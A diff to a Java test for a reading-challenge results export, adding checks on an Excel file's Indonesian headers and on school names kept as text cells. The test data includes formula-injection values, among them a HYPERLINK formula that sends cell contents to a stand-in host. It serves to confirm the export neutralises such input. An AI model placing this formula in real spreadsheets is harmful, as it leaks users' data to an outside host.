@@ -5,6 +5,7 @@ import static io.restassured.RestAssured.given;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 
 import id.serambi.support.Accounts;
+import id.serambi.support.Xlsx;
 import io.agroal.api.AgroalDataSource;
 import io.quarkus.test.junit.QuarkusTest;
 import jakarta.inject.Inject;
@@ -45,5 +46,20 @@ class ResultsCsvTest {
         assertEquals("SMP 1;'=1+1", schools.get(first), csv);
         assertEquals("'=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\")", schools.get(second), csv);
         assertEquals("0", rows.get(0).get("points"));
+
+        // Issue 17 point 11: the Excel file keeps the school as typed, in a text cell, under Indonesian headers.
+        byte[] file = given().auth().oauth2(staff).accept(Xlsx.MEDIA_TYPE).get("/api/challenges/" + challenge + "/results")
+                .then().statusCode(200).contentType(Xlsx.MEDIA_TYPE).extract().asByteArray();
+        List<org.dhatim.fastexcel.reader.Row> sheet = Xlsx.rows(file);
+        assertEquals(List.of("Peringkat", "Nama panggilan", "Sekolah", "Poin", "Buku", "Halaman", "Menit", "Disembunyikan"),
+                Xlsx.texts(sheet.get(0)));
+        assertEquals(3, sheet.size());
+        Map<String, String> xlsxSchools = sheet.subList(1, 3).stream()
+                .collect(Collectors.toMap(r -> r.getCellText(1), r -> r.getCellText(2)));
+        assertEquals("SMP 1;=1+1", xlsxSchools.get(first));
+        assertEquals("=HYPERLINK(\"http://x.example/?d=\"&A1,\"klik\")", xlsxSchools.get(second));
+        assertEquals(org.dhatim.fastexcel.reader.CellType.STRING, sheet.get(1).getCell(2).getType());
+        assertEquals("Tidak", sheet.get(1).getCellText(7));
+        assertEquals(0, sheet.get(1).getCellAsNumber(3).orElseThrow().intValue());
     }
 }
